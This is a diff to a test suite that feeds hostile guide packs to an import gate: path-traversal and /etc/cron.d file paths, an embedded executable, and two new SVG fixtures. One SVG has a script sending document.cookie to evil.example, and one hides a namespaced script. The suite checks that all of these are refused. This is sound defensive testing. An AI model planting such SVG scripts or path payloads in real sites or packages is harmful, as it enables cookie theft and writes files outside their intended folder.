@@ -62,6 +62,13 @@ describe('hostile guide packs, through the gate', () => {
     'a path escaping the guide folder': () => tamper(good, (a) => (a.files['../../../startup/evil.svg'] = 'PHN2Zz48L3N2Zz4=')),
     'an absolute path': () => tamper(good, (a) => (a.files['/etc/cron.d/evil.json'] = 'e30=')),
     'a program inside': () => tamper(good, (a) => (a.files['vneid-level-1/setup.exe'] = 'TVqQAAMAAAAEAAAA')),
+    // Signed and listed, referred to by no guide, still served under /packs/: checked all the same.
+    'an unsafe picture no guide refers to': () => buildPackFile(testSource({ packVersion: 1002 }, (files) => {
+      files.set('vneid-level-1/unused.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("http://evil.example/?"+document.cookie)</script></svg>'));
+    }), keys.privatePem),
+    'a picture with a namespaced script': () => buildPackFile(testSource({ packVersion: 1003 }, (files) => {
+      files.set('vneid-level-1/ns.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>'));
+    }), keys.privatePem),
     // JSON allows trailing spaces: only the size limit can refuse this one.
     'one byte over the size limit': () => Buffer.concat([good, Buffer.alloc(PACK_LIMITS.fileBytes + 1 - good.length, 32)]),
   };
@@ -78,6 +85,7 @@ describe('hostile guide packs, through the gate', () => {
       }
       expect(await databaseChecksum(app.db)).toBe(before);
       expect(folderState(app.dataDir)).toBe(files);
+      if (!res.ok && /unsafe picture|namespaced/.test(name)) expect(res.error.params?.reason).toBe('unsafe_svg');
     });
   }
   it('the good pack itself is accepted (so the refusals above are about the damage)', async () => {
